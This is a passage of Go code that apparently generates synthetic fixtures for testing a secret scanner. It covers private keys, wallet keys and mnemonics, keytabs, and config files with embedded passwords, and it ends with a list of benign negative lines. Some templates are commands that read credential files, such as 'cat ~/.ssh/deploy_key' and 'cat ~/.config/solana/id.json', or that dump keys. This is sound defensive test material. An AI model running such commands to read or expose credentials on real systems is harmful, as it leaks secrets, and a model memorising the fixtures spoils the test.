	}
	pkcs8 := func(g *gen) []byte {
		der, err := x509.MarshalPKCS8PrivateKey(b4ed25519(g))
		if err != nil {
			panic(err)
		}
		return der
	}
	ecDER := func(g *gen) []byte {
		der, err := x509.MarshalECPrivateKey(b4ecKey(g))
		if err != nil {
			panic(err)
		}
		return der
	}
	b58 := func(g *gen, n int) string { return b3b58(g.bytes(n)) }
	return []b3Kind{
		b4armoured("keymaterial", "openssh-ed25519-real", "an OpenSSH ed25519 private key built as ssh-keygen writes it (PROTOCOL.key)", func(g *gen) string { return b4openssh(g, "ci@runner") },
			"$ cat ~/.ssh/deploy_key\n%s", "deploy_key: |\n%s", "- name: SSH_PRIVATE_KEY\n  value: |-\n%s"),
		b4armoured("keymaterial", "openssh-encrypted-aes256ctr", "an OpenSSH key encrypted with aes256-ctr and bcrypt (its header bytes, then random)", func(g *gen) string {
			return "-----BEGIN OPENSSH PRIVATE KEY-----\n" + wrap("b3BlbnNzaC1rZXktdjEAAAAACmFlczI1Ni1jdHIAAAAGYmNyeXB0AAAAGAAAABA"+g.s(b64std, 380), 70) + "\n-----END OPENSSH PRIVATE KEY-----"
		},
			"the key is passphrase protected so it's fine to paste:\n%s", "id_rsa (encrypted):\n%s", "%s"),
		b4armoured("keymaterial", "pkcs8-ed25519-real", "an Ed25519 PKCS#8 key as openssl genpkey writes it (RFC 8410)", func(g *gen) string { return b4pem("PRIVATE KEY", pkcs8(g)) },
			"$ openssl genpkey -algorithm ed25519\n%s", "signing_key = \"\"\"\n%s\n\"\"\"", "kubectl create secret generic jwt --from-literal=key='%s'"),
		b4armoured("keymaterial", "sec1-ec-p256-real", "an EC P-256 key in SEC1 form (BEGIN EC PRIVATE KEY, RFC 5915)", func(g *gen) string { return b4pem("EC PRIVATE KEY", ecDER(g)) },
			"$ openssl ecparam -name prime256v1 -genkey -noout\n%s", "apns_key.p8 was actually:\n%s", "ES256_KEY='%s'"),
		b4armoured("keymaterial", "ec-key-pem-one-line", "an EC key PEM with its newlines written as \\n in a JSON or env value", func(g *gen) string {
			return strings.ReplaceAll(b4pem("EC PRIVATE KEY", ecDER(g)), "\n", "\\n")
		},
			"{\"private_key\": \"%s\"}", "JWT_PRIVATE_KEY=\"%s\"", "  signingKey: \"%s\""),
		b4armoured("keymaterial", "rsa-pkcs1-pem", "a PKCS#1 RSA key (BEGIN RSA PRIVATE KEY, RFC 8017 ASN.1 prefix then random)", func(g *gen) string {
			return "-----BEGIN RSA PRIVATE KEY-----\n" + b4pemBody(g, "MIIEowIBAAKCAQEA", 1190) + "\n-----END RSA PRIVATE KEY-----"
		},
			"server.key:\n%s", "ssl_key: |\n%s", "here, use this for the staging TLS:\n%s"),
		b4armoured("keymaterial", "dsa-pem", "a DSA key (BEGIN DSA PRIVATE KEY)", func(g *gen) string {
			return "-----BEGIN DSA PRIVATE KEY-----\n" + b4pemBody(g, "MIIBuwIBAAKBgQ", 440) + "\n-----END DSA PRIVATE KEY-----"
		},
			"old legacy host key:\n%s", "ssh_host_dsa_key\n%s", "%s"),
		b4armoured("keymaterial", "pkcs8-encrypted", "an encrypted PKCS#8 key (PBES2 prefix then random, RFC 5958)", func(g *gen) string {
			return "-----BEGIN ENCRYPTED PRIVATE KEY-----\n" + b4pemBody(g, "MIIFHDBOBgkqhkiG9w0BBQ0wQTApBgkqhkiG9w0BBQwwHAQI", 1310) + "\n-----END ENCRYPTED PRIVATE KEY-----"
		},
			"key.pem (passphrase is in 1Password):\n%s", "tls:\n  key: |\n%s", "%s"),
		k("jwks-rsa-private-members", "an RSA JWK's private exponent d (RFC 7518 §6.3.2)", func(g *gen) string { return g.b64url(256) },
			"{\"keys\":[{\"kty\":\"RSA\",\"kid\":\"2024-05\",\"n\":\"0vx7agoebGcQSuuPiLJXZptN9nndrQmbXEps2aiAFbWhM78LhWx4cbbfAAtVT86zwu1RK7aPFFxuhDR1L6tSoc_BJECPebWKRXjBZCiFV4n3oknjhMstn64tZ_2W-5JsGY4Hc5n9yBXArwl93lqt7_RN5w6Cf0h4QyQ5v-65YGjQR0_FDW2QvzqY368QQMicAtaSqzs8KJZgnYb9c7d0zgdAZHzu6qMQvRL5hajrn1n91CbOpbISD08qNLyrdkt-bFTWhAI4vMQFh6WeZu0fM4lFd2NcRwr3XPksINHaQ-G_xBniIqbw0Ls1jF44-csFCur-kEgU8awapJzKnqDKgw\",\"e\":\"AQAB\",\"d\":\"%s\"}]}",
			"private JWK d=%s", "\"d\": \"%s\","),
		b4armoured("keymaterial", "pgp-armored-private", "an armored PGP private key block (RFC 4880 armor, random packets)", func(g *gen) string {
			return "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n" + b4pemBody(g, "lQdGBGY", 1800) + "\n=" + g.s(b64std, 4) + "\n-----END PGP PRIVATE KEY BLOCK-----"
		},
			"$ gpg --armor --export-secret-keys release@example.test\n%s", "GPG_PRIVATE_KEY: |\n%s", "%s"),
		k("age-secret-key", "an age X25519 identity (AGE-SECRET-KEY-1 bech32, age spec)", func(g *gen) string {
			return strings.ToUpper(b4bech32("age-secret-key-", b4x25519(g).Bytes()))
		},
			"# created: 2024-05-02T10:00:00Z\n# public key: age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p\n%s", "SOPS_AGE_KEY=%s", "age -d -i <(echo %s) secrets.age"),
		k("nostr-nsec", "a Nostr private key (nsec1 bech32, NIP-19)", func(g *gen) string { return b4bech32("nsec", g.bytes(32)) },
			"my nostr key so the bot can post: %s", "NOSTR_PRIVATE_KEY=%s", "nak event -c hello --sec %s wss://relay.example.test"),
		k("solana-keypair-json", "a Solana keypair file: a JSON array of 64 bytes (solana-keygen)", func(g *gen) string {
			b := g.bytes(64)
			p := make([]string, len(b))
			for i, x := range b {
				p[i] = fmt.Sprint(x)
			}
			return "[" + strings.Join(p, ",") + "]"
		},
			"$ cat ~/.config/solana/id.json\n%s", "WALLET_KEYPAIR='%s'", "const payer = Keypair.fromSecretKey(Uint8Array.from(%s));"),
		k("solana-base58-secret", "a Solana secret key as base58 of 64 bytes (as wallets export it)", func(g *gen) string { return b58(g, 64) },
			"Phantom export: %s", "SOLANA_PRIVATE_KEY=%s", "Keypair.fromSecretKey(bs58.decode('%s'))"),
		k("ethereum-hex-privkey", "an Ethereum private key, 64 hex with or without 0x", func(g *gen) string { return g.pick("0x", "") + g.s(hexlc, 64) },
			"PRIVATE_KEY=%s", "const wallet = new ethers.Wallet('%s', provider);", "forge script Deploy --rpc-url $RPC --private-key %s --broadcast"),
		k("bitcoin-wif", "a Bitcoin WIF private key (base58check of 0x80, key, 0x01)", func(g *gen) string {
			return b4b58check(append(append([]byte{0x80}, g.bytes(32)...), 0x01))
		},
			"bitcoin-cli importprivkey %s \"cold\" false", "dumpprivkey output: %s", "paper wallet, private (WIF): %s"),
		k("bip32-xprv", "a BIP32 extended private key (base58check of 78 bytes, xprv)", func(g *gen) string {
			b := append([]byte{0x04, 0x88, 0xad, 0xe4, 0, 0, 0, 0, 0, 0, 0, 0, 0}, g.bytes(32)...)
			b = append(b, 0)
			return b4b58check(append(b, g.bytes(32)...))
		},
			"descriptor: wpkh(%s/84h/0h/0h/0/*)", "XPRV=%s", "master key: %s"),
		k("cosmos-mnemonic-24", "a 24-word BIP39 mnemonic for a Cosmos or Ethereum wallet", func(g *gen) string { return g.seed(24) },
			"gaiad keys add validator --recover\n> Enter your bip39 mnemonic\n%s", "MNEMONIC=\"%s\"", "wallet backup phrase:\n%s"),
		k("sslkeylog-client-random", "an SSLKEYLOGFILE line: the 96-hex master secret after the client random (NSS key log format)", func(g *gen) string { return g.s(hexlc, 96) },
			"$ cat $SSLKEYLOGFILE\nCLIENT_RANDOM 52362c10a2665e323a2adb4b9da0c10d4a8823719272f8b4c97af24f92784812 %s",
			"keys.log:\nCLIENT_RANDOM e1a9b3c4d5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90 %s", "CLIENT_TRAFFIC_SECRET_0 8b6c5e4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a39281 %s"),
		k("kerberos-keytab-b64", "a Kerberos keytab as base64 (file format 0x0502, MIT krb5 docs)", func(g *gen) string { return "BQIAAA" + g.s(b64std, 150) + "==" },
			"KRB5_KEYTAB_B64=%s", "echo '%s' | base64 -d > /etc/krb5.keytab", "kind: Secret\ndata:\n  krb5.keytab: %s"),
		k("pkcs12-b64", "a PKCS#12 (.p12, .pfx) file as base64", func(g *gen) string {
			return wrap("MIIKcQIBAzCCCjcGCSqGSIb3DQEHAaCCCigEggokMIIKIDCCBNcGCSqGSIb3DQEHBqCCBMgwggTEAgEAMIIEvQYJKoZIhvcNAQcBMBwGCiqGSIb3DQEMAQYwDgQI"+g.s(b64std, 900), 76)
		},
			"APPLE_CERT_P12_BASE64: |\n%s", "az keyvault certificate import --vault-name kv --name web --file <(echo '%s' | base64 -d)", "signing.pfx (base64):\n%s"),
		k("android-keystore-passwords", "Android signing passwords in gradle and keystore.properties", b4pw,
			"signingConfigs {\n    release {\n        storeFile file('release.jks')\n        storePassword '%s'\n        keyAlias 'upload'\n        keyPassword System.getenv('KEY_PW')\n    }\n}",
			"storePassword=%s\nkeyPassword=same\nkeyAlias=upload\nstoreFile=../upload.jks", "./gradlew bundleRelease -Pandroid.injected.signing.store.password=%s"),
		k("tor-hs-ed25519-secret", "a Tor v3 onion service secret key file as base64 (hs_ed25519_secret_key header)", func(g *gen) string {
			return base64.StdEncoding.EncodeToString(append([]byte("== ed25519v1-secret: type0 ==\x00\x00\x00"), g.bytes(64)...))
		},
			"base64 /var/lib/tor/hs/hs_ed25519_secret_key\n%s", "ONION_KEY=%s", "hs_ed25519_secret_key (b64): %s"),
	}
}

// --- config: files of many syntaxes ---

func b4Configs() []b3Kind {
	pw := b4pw
	c := func(name, source string, body func(*gen) string, texts ...string) b3Kind {
		return b4t("config", name, source, body, texts...)
	}
	tok := func(g *gen) string { return g.s(alnum, 36) }
	return []b3Kind{
		c("windows-reg-autologon", "a .reg export with Winlogon auto-logon or a service password (text written here)", pw,
			"Windows Registry Editor Version 5.00\n\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon]\n\"AutoAdminLogon\"=\"1\"\n\"DefaultUserName\"=\"kiosk\"\n\"DefaultPassword\"=\"%s\"",
			"[HKEY_CURRENT_USER\\Software\\SimonTatham\\PuTTY\\Sessions\\router]\n\"HostName\"=\"10.0.0.1\"\n\"ProxyPassword\"=\"%s\"",
			"reg add \"HKLM\\SOFTWARE\\Vendor\\Agent\" /v ApiSecret /t REG_SZ /d \"%s\" /f"),
		c("macos-plist-token", "a property list with a token (text written here)", tok,
			"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\">\n<dict>\n\t<key>APIToken</key>\n\t<string>%s</string>\n\t<key>ServerURL</key>\n\t<string>https://mdm.corp.local</string>\n</dict>\n</plist>",
			"$ defaults read com.vendor.sync\n{\n    AccountName = \"ops@example.test\";\n    AuthToken = %s;\n}",
			"$ plutil -p Config.plist\n{\n  \"ClientSecret\" => \"%s\"\n}"),
		c("unattend-xml-password", "a Windows unattend.xml with a plain-text password (PlainText true)", pw,
			"<UserAccounts>\n  <AdministratorPassword>\n    <Value>%s</Value>\n    <PlainText>true</PlainText>\n  </AdministratorPassword>\n</UserAccounts>",
			"<AutoLogon>\n  <Password>\n    <Value>%s</Value>\n    <PlainText>true</PlainText>\n  </Password>\n  <Username>Administrator</Username>\n</AutoLogon>",
			"<Credentials><Domain>CORP</Domain><Username>joiner</Username><Password>%s</Password></Credentials>"),
		c("web-config-connstring", "an ASP.NET web.config or appsettings.json connection string", pw,
			"<connectionStrings>\n  <add name=\"Default\" connectionString=\"Server=sql01;Database=Erp;User Id=erp_app;Password=%s;TrustServerCertificate=True\" providerName=\"System.Data.SqlClient\" />\n</connectionStrings>",
			"{\n  \"ConnectionStrings\": {\n    \"Main\": \"Host=pg;Database=app;Username=app;Password=%s\"\n  }\n}",
			"<appSettings>\n  <add key=\"SmtpPassword\" value=\"%s\" />\n</appSettings>"),
		c("hcl-provider-block", "HCL provider and backend blocks with inline credentials (text written here)", pw,
			"provider \"vsphere\" {\n  user                 = \"administrator@vsphere.local\"\n  password             = \"%s\"\n  vsphere_server       = \"vc01.corp.local\"\n  allow_unverified_ssl = true\n}",
			"terraform {\n  backend \"pg\" {\n    conn_str = \"postgres://tf:%s@pg.corp.local/tfstate\"\n  }\n}",
			"variable \"admin_password\" {\n  type    = string\n  default = \"%s\"\n}"),
		c("toml-tool-configs", "TOML configs of tools with a secret (cargo, poetry, netlify, pgcat), text written here", tok,
			"[registries.corp]\nindex = \"sparse+https://cargo.corp.local/index/\"\ntoken = \"Bearer %s\"",
			"[http-basic.private]\nusername = \"ci\"\npassword = \"%s\"",
			"[[pools.app.users]]\nusername = \"app\"\npassword = \"%s\"\npool_size = 20"),
		c("ini-tool-configs", "INI configs with a secret (rclone, s3cmd, odbc.ini, supervisord), text written here", pw,
			"[remote]\ntype = webdav\nurl = https://dav.example.test/remote.php/dav/files/me\nvendor = nextcloud\nuser = me\npass = %s",
			"[default]\naccess_key = AKIAIOSFODNN7EXAMPLE\nsecret_key = %s\nhost_base = s3.example.test",
			"[ODBC Data Source]\nDriver=ODBC Driver 18 for SQL Server\nServer=tcp:sql01,1433\nUID=report\nPWD=%s",
			"[inet_http_server]\nport=*:9001\nusername=admin\npassword=%s"),
		c("java-properties-secrets", "Java .properties files with secrets (Spring, Quarkus, Kafka clients), text written here", pw,
			"spring.datasource.url=jdbc:postgresql://pg:5432/app\nspring.datasource.username=app\nspring.datasource.password=%s",
			"quarkus.oidc.credentials.secret=%s\nquarkus.oidc.client-id=backend",
			"sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required username=\"svc\" password=\"%s\";",
			"mail.smtp.password = %s"),
		c("yaml-anchors-and-multiline", "YAML with anchors, folded scalars and quoted styles (text written here)", pw,
			"defaults: &db\n  user: app\n  password: &pw '%s'\nprod:\n  <<: *db\n  host: pg-prod",
			"smtp:\n  password: >-\n    %s\n  port: 587",
			"auth: {user: \"ops\", pass: \"%s\", realm: internal}"),
		c("nginx-apache-auth", "web-server configs with upstream credentials (text written here)", func(g *gen) string {
			return base64.StdEncoding.EncodeToString([]byte("proxy:" + b4pw(g)))
		},
			"location /api/ {\n    proxy_pass http://backend;\n    proxy_set_header Authorization \"Basic %s\";\n}",
			"RequestHeader set Authorization \"Basic %s\"",
			"haproxy: http-request set-header Authorization \"Basic %s\""),
		c("systemd-and-cron-secrets", "systemd units, drop-ins and crontabs with a secret (text written here)", pw,
			"[Service]\nEnvironment=\"API_PASSWORD=%s\"\nExecStart=/usr/local/bin/agent",
			"# m h dom mon dow command\n0 3 * * * PGPASSWORD='%s' pg_dumpall -h db -U postgres > /backup/all.sql",
			"$ systemctl show sync.service -p Environment\nEnvironment=SYNC_USER=svc SYNC_PASS=%s"),
		c("ansible-inventory-vars", "Ansible inventory and vars with become and connection passwords (text written here)", pw,
			"[windows]\nwin01 ansible_host=10.0.5.11\n\n[windows:vars]\nansible_user=Administrator\nansible_password=%s\nansible_connection=winrm",
			"all:\n  vars:\n    ansible_become_pass: \"%s\"",
			"ansible-playbook site.yml -e 'db_password=%s'"),
		c("docker-registry-auth", "~/.docker/config.json and podman auth.json with auth (base64 of user:token)", func(g *gen) string {
			return base64.StdEncoding.EncodeToString([]byte("robot$ci:" + g.s(alnum, 32)))
		},
			"{\n\t\"auths\": {\n\t\t\"harbor.corp.local\": {\n\t\t\t\"auth\": \"%s\"\n\t\t}\n\t}\n}",
			"$ cat ${XDG_RUNTIME_DIR}/containers/auth.json\n{\"auths\":{\"quay.io\":{\"auth\":\"%s\"}}}",
			"dockerconfig: '{\"auths\":{\"ghcr.io\":{\"auth\":\"%s\"}}}'"),
		c("openvpn-ipsec-psk", "VPN configs with a pre-shared key or password (strongSwan, Libreswan, WireGuard PSK), text written here", pw,
			"# /etc/ipsec.secrets\n203.0.113.10 198.51.100.20 : PSK \"%s\"",
			"conn office\n  authby=secret\n  # psk in secrets file: %s",
			"[Peer]\nPublicKey = HIgo9xNzJMWLKASShiTqIybxZ0U3wGLiUeJ1PKf8ykw=\nPresharedKey = %s"),
		c("router-running-config", "network device configs with passwords (Cisco type 0, Juniper, MikroTik), text written here", pw,
			"!\nusername admin privilege 15 password 0 %s\nenable secret 5 $1$mERr$hx5rVt7rPNoS4wqbXKX7m0\n!",
			"set system login user ops authentication plain-text-password-value \"%s\"",
			"/user add name=backup group=read password=%s"),
		c("snmp-radius-secrets", "SNMP communities and RADIUS shared secrets (text written here)", func(g *gen) string { return g.s(alnum, 16) },
			"snmp-server community %s RO 10",
			"client 10.0.0.0/24 {\n    secret = %s\n    shortname = office-aps\n}",
			"radius-server host 10.0.0.9 key %s"),
		c("jdbc-url-params", "JDBC URLs with the password as a parameter (text written here)", pw,
			"jdbc:sqlserver://sql01:1433;databaseName=erp;user=erp;password=%s;encrypt=true",
			"jdbc:oracle:thin:scott/%s@//ora01:1521/ORCLPDB1",
			"jdbc:postgresql://pg:5432/app?user=app&password=%s&ssl=true"),
		c("php-config-arrays", "PHP config arrays and defines (WordPress, Laravel, Nextcloud), text written here", pw,
			"define( 'DB_PASSWORD', '%s' );",
			"'mysql' => [\n    'driver' => 'mysql',\n    'username' => 'forge',\n    'password' => '%s',\n],",
			"$CONFIG = array (\n  'dbuser' => 'nextcloud',\n  'dbpassword' => '%s',\n);"),
		c("kubernetes-configmap-misuse", "a password put in a ConfigMap instead of a Secret (text written here)", pw,
			"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: app-config\ndata:\n  DB_HOST: pg\n  DB_PASSWORD: \"%s\"",
			"kubectl create configmap smtp --from-literal=SMTP_PASS=%s",
			"envFrom:\n  - configMapRef:\n      name: legacy\n# legacy has MAIL_PASSWORD=%s"),
		c("vscode-launch-settings", "VS Code launch.json and settings.json with a secret (text written here)", tok,
			"{\n  \"version\": \"0.2.0\",\n  \"configurations\": [\n    {\n      \"type\": \"node\",\n      \"request\": \"launch\",\n      \"name\": \"api\",\n      \"env\": { \"STRIPE_SECRET\": \"%s\" }\n    }\n  ]\n}",
			"\"sqltools.connections\": [{\"name\": \"prod\", \"driver\": \"PostgreSQL\", \"password\": \"%s\"}]",
			"\"rest-client.environmentVariables\": {\"prod\": {\"token\": \"%s\"}}"),
		c("http-files-and-insomnia", ".http files and Insomnia exports with a token (text written here)", tok,
			"### get orders\nGET https://api.example.test/orders\nAuthorization: Bearer %s",
			"@token = %s\n\nGET {{host}}/me\nAuthorization: Bearer {{token}}",
			"{\"_type\":\"environment\",\"data\":{\"base_url\":\"https://api.example.test\",\"api_key\":\"%s\"}}"),
		c("netrc-and-pgpass", ".netrc, .pgpass and .my.cnf lines (text written here)", pw,
			"machine ftp.example.test login uploader password %s",
			"pg.prod.local:5432:*:report:%s",
			"[client]\nuser=root\npassword=\"%s\""),
		c("github-actions-env-literal", "a workflow with a literal secret instead of ${{ secrets.* }} (text written here)", tok,
			"on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    env:\n      SAUCE_ACCESS_KEY: %s\n    steps:\n      - uses: actions/checkout@v4",
			"      - uses: docker/login-action@v3\n        with:\n          username: teambot\n          password: %s",
			"    - name: publish\n      run: npm publish\n      env:\n        NODE_AUTH_TOKEN: %s"),
	}
}

// --- negatives: ordinary lines that must be left alone ---

// blind4Negatives are about 300 lines of ordinary text that looks risky and holds no secret:
// code that handles secrets, logs with ids, hashes, uuids and versions, prose about passwords
// without a value, config templates with placeholders, commit messages, SQL schemas, CSS and test
// fixtures with obvious dummy values. Some are written from templates with a fixed random source.
func blind4Negatives() []string {
	out := []string{
		// code that handles secrets without holding one
		"password := os.Getenv(\"DB_PASSWORD\")",
		"if err := bcrypt.CompareHashAndPassword(hash, []byte(password)); err != nil {",
		"token, err := oauthConfig.Exchange(ctx, r.URL.Query().Get(\"code\"))",
		"const apiKey = process.env.STRIPE_SECRET_KEY;",
		"api_key = os.environ[\"OPENAI_API_KEY\"]",
		"secret = Rails.application.credentials.dig(:aws, :secret_access_key)",
		"var password = builder.Configuration[\"Smtp:Password\"];",
		"String password = System.getenv(\"KEYSTORE_PASSWORD\");",
		"let token = std::env::var(\"GITHUB_TOKEN\").expect(\"GITHUB_TOKEN not set\");",
		"$password = getenv('MAIL_PASSWORD') ?: '';",
		"password=\"$(cat /run/secrets/db_password)\"",
		"export AWS_SECRET_ACCESS_KEY=\"${AWS_SECRET_ACCESS_KEY:?must be set}\"",
		"DB_PASSWORD=${DB_PASSWORD}",
		"password: ${{ secrets.REGISTRY_PASSWORD }}",
		"token: {{ .Values.api.token | b64enc }}",
		"password: \"{{ vault_db_password }}\"",
		"api_key: !vault |",
		"secretKeyRef:\n  name: db-creds\n  key: password",
		"valueFrom: { secretKeyRef: { name: smtp, key: pass } }",
		"def check_password(self, raw_password): return check_password(raw_password, self.password)",
		"func (c *Client) SetToken(token string) { c.token = token }",
		"if len(password) < 12 { return errors.New(\"password too short\") }",
		"hashed = argon2.hash(password, salt=os.urandom(16))",
		"const PASSWORD_MIN_LENGTH = 12;",
		"type Credentials struct { User, Password string `json:\"-\"` }",
		"log.Printf(\"login failed for user %q\", username)",
		"raise ValueError(\"api_key must not be empty\")",
		"assert response.status_code == 401, \"expected unauthorized without a token\"",
		"passwordInput.setAttribute('type', 'password');",
		"<input type=\"password\" name=\"password\" autocomplete=\"current-password\" required>",
		"<label for=\"api-key\">API key</label>",
		"curl -H \"Authorization: Bearer $TOKEN\" https://api.example.test/v1/me",
		"curl -u \"$USER:$PASS\" https://repo.example.test/",
		"docker login -u \"$REGISTRY_USER\" --password-stdin < /run/secrets/registry",
		"kubectl create secret generic db --from-file=password=./password.txt",
		"vault kv put secret/app password=@password.txt",
		"echo \"$DEPLOY_KEY\" | ssh-add -",
		"openssl rand -base64 32 > /run/keys/session.key",
		"gpg --batch --passphrase-file /run/secrets/gpg --decrypt secrets.gpg",
		"Authorization: Bearer <token>",
		"Authorization: Basic <base64 of user:password>",
		"X-API-Key: YOUR_API_KEY_HERE",
		"STRIPE_SECRET_KEY=sk_test_...",
		"OPENAI_API_KEY=<your key>",
		"DATABASE_URL=postgres://user:password@localhost:5432/dbname",
		"REDIS_URL=redis://:<password>@localhost:6379/0",
		"MONGO_URI=mongodb://<username>:<password>@<host>:27017",
		"password = \"changeme\"  # replace before deploying",
		"admin_password: CHANGE_ME",
		"api_token: \"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\"",
		"secret: \"REPLACE_WITH_REAL_SECRET\"",
		"token = \"<redacted>\"",
		"password: \"********\"",
		"DB_PASS=***",
		"\"password\": \"[FILTERED]\"",
		"Authorization: [REDACTED]",
		"aws_secret_access_key = <your-secret-key>",
		"private_key_path = \"~/.ssh/id_ed25519\"",
		"IdentityFile ~/.ssh/id_ed25519",
		"ssh-keygen -t ed25519 -C \"dev@example.test\" -f ~/.ssh/id_ed25519",
		"-----BEGIN PUBLIC KEY----- is what you share; never share the private one.",
		"See RFC 7617 for the Basic authentication scheme.",
		// prose about passwords without a value
		"Please reset your password using the link we sent to your email address.",
		"Your password must contain at least one digit and one symbol.",
		"We will never ask you for your password by phone or email.",
		"The API key can be regenerated at any time from the dashboard.",
		"Store secrets in the vault, not in the repository.",
		"Tokens expire after one hour; refresh them with the refresh token endpoint.",
		"If you lost your recovery codes, contact support with your account ID.",
		"Two-factor authentication is now required for all administrators.",
		"Rotate the signing key every 90 days and keep the previous one for verification.",
		"The password field is hashed with Argon2id before it is stored.",
		"Never commit .env files; add them to .gitignore.",
		"Merci de changer votre mot de passe lors de votre première connexion.",
		"Bitte geben Sie Ihr Passwort niemals an Dritte weiter.",
		"Por favor, no compartas tu contraseña con nadie.",
		"Não compartilhe sua senha com ninguém.",
		"La password deve contenere almeno dodici caratteri.",
		"Deel je wachtwoord nooit met anderen.",
		"Nigdy nie podawaj swojego hasła przez telefon.",
		"Никому не сообщайте свой пароль.",
		"Нікому не повідомляйте свій пароль.",
		"パスワードは定期的に変更してください。",
		"비밀번호는 다른 사람과 공유하지 마세요.",
		"请不要与任何人分享您的密码。",
		"กรุณาอย่าเปิดเผยรหัสผ่านของคุณกับผู้อื่น",
		"Vui lòng không chia sẻ mật khẩu của bạn.",
		"Jangan berikan kata sandi Anda kepada siapa pun.",
		"Şifrenizi düzenli olarak değiştirin.",
		"يرجى عدم مشاركة كلمة المرور الخاصة بك مع أي شخص.",
		"אנא אל תשתף את הסיסמה שלך.",
		"कृपया अपना पासवर्ड किसी के साथ साझा न करें।",
		"Μην μοιράζεστε τον κωδικό πρόσβασής σας.",
		"Älä koskaan kerro salasanaasi kenellekään.",
		"Del aldrig din adgangskode med andre.",
		"Usishiriki nenosiri lako na mtu yeyote.",
		"Forgot your password? Click \"Forgot password\" on the sign-in page.",
		"the password is in 1Password under \"Prod DB\", ask Maria for access",
		"I rotated the token, the new one is in the vault",
		"pw is the usual one, check the team vault",
		"can you send me the wifi password? (the guest one)",
		"the API key expired yesterday, I requested a new one",
		"Password: (see the sealed envelope in the safe)",
		"Passwort: siehe KeePass-Datei",
		"mot de passe : voir le gestionnaire",
		// logs with ids, hashes, uuids, versions
		"2024-05-02T10:00:00Z INFO server started version=v2.14.3 commit=4f1c9e0 go=go1.22.3",
		"2024-05-02T10:00:01Z INFO listening addr=:8080 pid=4123",
		"level=info msg=\"user logged in\" user_id=48213 session=expired ip=10.0.0.4",
		"level=warn msg=\"invalid token\" reason=signature_mismatch client=web",
		"GET /api/v1/orders?page=2&per_page=50 200 12.3ms",
		"POST /login 302 4.1ms user=alice",
		"npm WARN deprecated request@2.88.2: request has been deprecated",
		"Successfully installed requests-2.31.0 urllib3-2.2.1 idna-3.7",
		"go: downloading golang.org/x/crypto v0.23.0",
		"Step 7/12 : RUN apt-get update && apt-get install -y ca-certificates",
		"Pulling fs layer\nDigest: sha256 digest is printed by docker pull and is not a secret",
		"Status: Downloaded newer image for postgres:16.3-alpine",
		"Compiling serde v1.0.203",
		"BUILD SUCCESSFUL in 42s",
		"Tests run: 118, Failures: 0, Errors: 0, Skipped: 2",
		"PASS\nok  \tgithub.com/example/app/internal/store\t0.412s",
		"=== RUN   TestPasswordHashing\n--- PASS: TestPasswordHashing (0.21s)",
		"ERROR: password authentication failed for user \"app\"",
		"FATAL:  password authentication failed for user \"postgres\"",
		"Access denied for user 'root'@'localhost' (using password: YES)",
		"Permission denied (publickey).",
		"Host key verification failed.",
		"Warning: Permanently added 'github.com' (ED25519) to the list of known hosts.",
		"The authenticity of host 'db.internal (10.0.0.5)' can't be established.",
		"ED25519 key fingerprint is SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU.",
		"Agent pid 40213",
		"Identity added: /home/dev/.ssh/id_ed25519 (dev@laptop)",
		"The agent has no identities.",
		"401 Unauthorized: missing or invalid API key",
		"403 Forbidden: token does not have the repo scope",
		"Error: secret \"db-creds\" not found",
		"error: You must be logged in to the server (Unauthorized)",
		"Login Succeeded",
		"WARNING! Using --password via the CLI is insecure. Use --password-stdin.",
		"Your password has been changed successfully.",
		"Token validated for subject user:48213 (expires in 3599s)",
		"vault: token renewed, ttl=768h",
		"certificate expires in 29 days (CN=api.example.test)",
		// commit messages
		"fix(auth): do not log the password on failed login",
		"chore: rotate staging API keys (values in vault)",
		"feat: read SMTP password from SMTP_PASSWORD_FILE",
		"refactor: move token parsing into internal/auth",
		"docs: explain how to create a GitHub token with the repo scope",
		"test: add fixtures for expired JWTs",
		"Revert \"store tokens in localStorage\"",
		"security: remove hard-coded credentials from docker-compose.yml",
		"bump golang.org/x/oauth2 from 0.19.0 to 0.20.0",
		"Merge pull request #4412 from team/fix-password-reset",
		// SQL schemas
		"CREATE TABLE users (id BIGSERIAL PRIMARY KEY, email TEXT UNIQUE NOT NULL, password_hash TEXT NOT NULL);",
		"ALTER TABLE api_keys ADD COLUMN last_used_at TIMESTAMPTZ;",
		"CREATE INDEX idx_sessions_token_hash ON sessions (token_hash);",
		"SELECT id, email FROM users WHERE password_reset_token IS NOT NULL;",
		"UPDATE users SET password_hash = $1 WHERE id = $2;",
		"GRANT SELECT ON ALL TABLES IN SCHEMA public TO readonly;",
		"CREATE USER app WITH PASSWORD :'app_password';",
		"-- passwords are stored as bcrypt hashes, never in clear",
		// CSS and markup
		".password-strength { height: 4px; background: #e0e0e0; border-radius: 2px; }",
		".token-badge { color: #7a2e9e; font-family: ui-monospace, monospace; }",
		":root { --secret-panel-bg: #1e1e2e; --accent: #f38ba8; }",
		"@media (max-width: 640px) { .login-form input[type=password] { width: 100%; } }",
		"<svg viewBox=\"0 0 24 24\"><path d=\"M12 1L3 5v6c0 5.55 3.84 10.74 9 12 5.16-1.26 9-6.45 9-12V5l-9-4z\"/></svg>",
		"background-image: url(\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\");",
		// test fixtures with obvious dummy values
		"user := User{Name: \"alice\", Password: \"password123\"}",
		"assert login(\"test@example.com\", \"hunter2\") is False",
		"const fakeToken = \"test-token\";",
		"api_key: \"dummy\"",
		"password: example",
		"secret = \"not-a-real-secret\"",
		"token = \"0000000000000000000000000000000000000000\"",
		"password = \"aaaaaaaaaaaa\"",
		"expect(maskSecret('abcd1234')).toBe('****1234')",
	}
	g := &gen{rand.New(rand.NewPCG(0xb14d4, blind4Seed))}
